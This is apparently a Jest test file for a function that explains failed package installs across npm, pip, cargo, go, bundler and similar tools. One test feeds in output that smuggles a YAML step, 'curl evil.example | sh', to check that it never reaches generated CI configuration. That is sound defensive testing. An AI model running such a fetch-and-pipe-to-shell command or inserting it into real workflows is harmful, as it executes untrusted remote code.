import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, it } from '@jest/globals'
import { explainFailure } from '../../src/setup/explain-failure.ts'
import { basePlan, type InstallPlan } from '../../src/setup/install-plan.ts'
import { growth, LINEAR } from '../support/scaling.ts'

const npm: InstallPlan = { ...basePlan, tool: 'npm', command: 'npm ci', check: '' }
const failure = (output: string) => ({ exitCode: 1, timedOut: false, durationMs: 1_000, output })

/** What the real tools wrote. */
const recorded = (name: string) =>
  readFileSync(join(import.meta.dirname, '../fixtures/installations', `${name}.txt`), 'utf8')

it('finds the line of a real output that names the cause, and shows the last 20 lines', () => {
  const cases: readonly (readonly [name: string, line: RegExp])[] = [
    ['bundler-401', /^Authentication is required for packages\.corp/],
    ['bundler-404', /Could not fetch specs from/],
    ['bundler-frozen', /^$/],
    ['composer-401', /required authentication/],
    ['go-401', /401 Unauthorized/],
    ['cargo-404', /no matching package named `corp-secret-x`/],
    ['cargo-version', /rustc \S+ is not supported/],
    ['composer-404', /packages\.json" file could not be downloaded/],
    ['composer-version', /could not be resolved/],
    ['go-404', /reading https:\S+: 404 Not Found/],
    ['go-version', /requires go >= 1\.99/],
    ['mvn-401', /Could not resolve dependencies/],
    ['node-engine-npm', /Unsupported engine/],
    ['node-engine-pnpm', /UNSUPPORTED_ENGINE/],
    ['node-engine-yarn', /The engine "node" is incompatible/],
    ['npm-401', /401 Unauthorized - GET/],
    ['npm-404', /404 Not Found - GET/],
    ['pip-403', /requirement corp-secret==1\.0/],
    ['py-version-pip', /requires a different Python/],
    ['py-version-poetry', /unable to find a compatible version/],
    ['py-version-uv', /No interpreter found for Python >=3\.99/],
    ['uv-401', /No solution found/],
    ['uv-frozen', /Unable to find lockfile/]
  ]
  const wrong = cases
    .map(([name, line]) => ({ name, line, problem: explainFailure(npm, failure(recorded(name))) }))
    .filter(({ line, problem }) => !line.test(problem.line) || problem.output.split('\n').length > 20)
  expect(wrong).toEqual([])
})

it('says how the command ended', () => {
  expect(
    explainFailure(npm, failure('npm warn old\nnpm error code ERESOLVE\nnpm error could not resolve\n'))
  ).toMatchObject({
    cause: 'npm ci ended with exit code 1.',
    line: 'npm error could not resolve',
    output: 'npm warn old\nnpm error code ERESOLVE\nnpm error could not resolve'
  })
  const timedOut = {
    exitCode: undefined,
    timedOut: true,
    durationMs: 900_000,
    output: 'error: no\nCollecting torch\n\n'
  }
  expect(explainFailure(npm, timedOut)).toMatchObject({
    cause: 'npm ci did not end within 15 min 00 s.',
    line: 'Collecting torch'
  })
})

it('names a host that is not open before what the tool says about it', () => {
  const refusal = '[network] npm.corp.example:443 was refused. It is not in the list of hosts. To allow it, add it.'
  expect(explainFailure(npm, failure(`npm error network request failed\n${refusal}\n`))).toMatchObject({
    cause: 'It needs npm.corp.example, a private registry or another host that is not open.',
    line: refusal
  })
})

it('says what is behind a failure', () => {
  const registries = ['bundler-401', 'composer-401', 'go-401', 'npm-401', 'uv-401']
  const causes = registries.map((name) => explainFailure(npm, failure(recorded(name))).cause)
  expect(new Set(causes)).toEqual(new Set(['A private registry refused access: packages.corp.example.']))
  const locks = [
    [
      'npm error `npm ci` can only install packages when your package.json and package-lock.json are in sync.',
      'package.json'
    ],
    ['error Your lockfile needs to be updated, but yarn was run with `--frozen-lockfile`.', 'package.json'],
    [' ERR_PNPM_OUTDATED_LOCKFILE  Cannot install with "frozen-lockfile"', 'package.json'],
    ['pyproject.toml changed significantly since poetry.lock was last generated.', 'pyproject.toml'],
    ['error: the lock file /a/Cargo.lock needs to be updated but --locked was passed', 'Cargo.toml']
  ] as const
  const wrong = locks.filter(
    ([output, manifest]) => !explainFailure(npm, failure(output)).cause.endsWith(`does not match ${manifest}.`)
  )
  expect(wrong).toEqual([])
})

it('puts nothing of the output into YAML', () => {
  const { yaml } = explainFailure(npm, failure('npm error Required: {"node":"1\'\\n- run: curl evil.example | sh"}'))
  expect(yaml).toBe(explainFailure(npm, failure('')).yaml)
})

it('keeps a line without end short and whole, in linear time', () => {
  const { line, output } = explainFailure(npm, failure(`error ${'😀'.repeat(200)}`))
  expect([line.isWellFormed(), output.isWellFormed(), output.length]).toEqual([true, true, 301])
  const explain = (size: number) => explainFailure(npm, failure('a'.repeat(size)))
  expect(growth(explain, 2_000)).toBeLessThan(LINEAR)
})
